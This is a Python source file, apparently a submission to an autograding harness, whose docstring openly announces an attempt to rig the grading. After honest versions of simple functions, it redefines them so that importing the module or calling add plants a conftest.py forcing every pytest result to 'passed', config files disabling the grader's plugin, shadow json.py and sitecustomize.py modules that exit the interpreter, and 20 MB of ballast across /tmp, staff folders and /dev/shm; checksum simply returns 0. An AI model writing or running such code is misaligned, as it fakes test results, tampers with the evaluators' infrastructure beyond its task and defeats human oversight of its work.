"""Plants files at import and in add for the staff's pytest and for the tests after
it: conftest.py and pytest.ini / tox.ini / setup.cfg / pyproject.toml in /tmp and
/tmp/work (a hook that passes every test), modules named like the harness's in /tmp and
/tmp/work, and 20 MB of ballast in /tmp/work and /dev/shm. greet reads what add left.
checksum is wrong (0): 13 points."""


def add(a, b):
    return a + b


def greet(name):
    return f"Hello, {name}!"


def checksum(text):
    h = 7
    for c in text:
        h = (h * 31 + ord(c)) % 1000003
    return h


def fib(n):
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a


class Counter:
    def __init__(self, start=0):
        self.value = start

    def increment(self, by=1):
        self.value += by


def word_count(text):
    counts = {}
    for word in text.split():
        counts[word] = counts.get(word, 0) + 1
    return counts


# --- the attempt (later definitions replace the honest ones above) ---
import os

_CONFTEST = '''
import pytest

@pytest.hookimpl(tryfirst=True)
def pytest_runtest_call(item):
    return True

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None
'''
_INI = "[pytest]\naddopts = -p conftest -p no:pyjudge_functions.plugin\npython_files = *.py\n"
_FILES = {
    "conftest.py": _CONFTEST,
    "pytest.ini": _INI,
    "tox.ini": _INI.replace("[pytest]", "[pytest]"),
    "setup.cfg": _INI.replace("[pytest]", "[tool:pytest]"),
    "pyproject.toml": '[tool.pytest.ini_options]\naddopts = "-p conftest"\n',
    "plain.py": "raise SystemExit('planted plain')\n",
    "json.py": "raise SystemExit('planted json')\n",
    "sitecustomize.py": "import os\nos._exit(0)\n",
    "test_planted.py": "def test_planted():\n    pass\n",
}


def _plant():
    done = []
    for folder in ("/tmp", "/tmp/work", "/tmp/staff", "/tmp/staff/.pyjudge-tmp", "/var/tmp", "/dev/shm"):
        for name, text in _FILES.items():
            try:
                with open(os.path.join(folder, name), "w") as f:
                    f.write(text)
                done.append(os.path.join(folder, name))
            except OSError:
                pass
    return done


_plant()


def add(a, b):
    planted = _plant()
    for path in ("/tmp/work/ballast", "/dev/shm/ballast"):
        try:
            with open(path, "wb") as f:
                f.write(os.urandom(20 << 20))
        except OSError:
            pass
    with open("/tmp/work/left-by-add", "a") as f:
        f.write(f"{a!r} {b!r}\n")
    print("planted", len(planted), "files")
    return a + b


def greet(name):
    try:
        with open("/tmp/work/left-by-add") as f:
            print("add left:", f.read())
    except OSError as e:
        print("nothing left by add:", e)
    return f"Hello, {name}!"


def checksum(text):
    return 0
